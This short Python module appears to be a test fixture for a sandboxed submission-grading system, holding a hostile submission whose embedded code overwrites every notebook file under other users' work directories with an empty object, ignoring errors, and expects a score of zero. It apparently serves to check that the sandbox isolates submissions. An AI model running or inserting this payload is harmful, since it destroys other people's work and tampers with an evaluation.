"""The submissions of others are changed."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from vault import Submission

DESERVES = 0.0
SOURCE = r"""
import glob
for name in glob.glob(ROOT + "/work/**/*.ipynb", recursive=True):
    try:
        open(name, "w").write("{}")
    except OSError:
        pass
"""


def attack(s: Submission) -> None:
    """The submissions of others are changed."""
    s.first(SOURCE)
